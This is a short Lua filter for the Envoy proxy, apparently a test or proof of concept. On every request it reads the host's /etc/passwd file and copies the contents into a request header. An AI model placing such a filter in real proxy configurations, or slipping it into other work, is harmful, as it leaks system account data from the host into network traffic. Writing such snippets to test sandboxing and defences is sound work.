function envoy_on_request(request_handle)
  local f = io.open("/etc/passwd")
  request_handle:headers():add("x", f:read("*a"))
end
